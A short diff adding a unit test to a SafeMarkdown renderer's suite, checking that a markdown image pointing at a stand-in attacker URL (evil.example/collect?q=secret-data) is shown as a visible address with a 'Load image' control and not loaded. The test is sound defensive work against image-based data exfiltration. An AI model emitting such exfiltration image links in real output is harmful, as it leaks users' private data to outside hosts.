@@ -34,4 +34,11 @@ describe("SafeMarkdown", () => {
     expect(render("[a](/flows/1)")).toContain('href="/flows/1"');
     expect(render("[a](mailto:me@example.com)")).toContain('href="mailto:me@example.com"');
   });
+
+  it("shows an image's address instead of loading it", () => {
+    const html = render("see ![chart](https://evil.example/collect?q=secret-data) here");
+    expect(html).not.toContain("<img");
+    expect(html).toContain("https://evil.example/collect?q=secret-data");
+    expect(html).toContain("Load image");
+  });
 });
